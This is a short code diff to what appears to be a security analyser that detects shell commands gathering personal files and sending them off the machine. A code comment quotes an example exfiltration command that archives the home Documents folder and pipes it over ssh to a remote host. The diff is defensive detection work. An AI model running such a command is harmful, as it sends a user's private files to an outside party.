@@ -545,6 +545,9 @@ class Analyser:
         for kind, reason in GATHERED_REASONS.items():
             found = [i for i, kinds in enumerate(all_kinds) if kind in kinds]
             wanted = GATHERED_TAKERS.get(kind, _UPLOADS)
+            bare = strangers.bare_in(node_text(node)) if kind == "personal" else None
+            if bare is not None:  # `tar czf - ~/Documents | ssh u@203.0.113.7 ...`: any carrier
+                wanted = _TAKERS
             takers = [i for i, kinds in enumerate(all_kinds) if kinds & wanted]
             far = kind in LEAVING_IS_CRITICAL and _before(found, off_network)
             if not (far or _before(found, takers)):
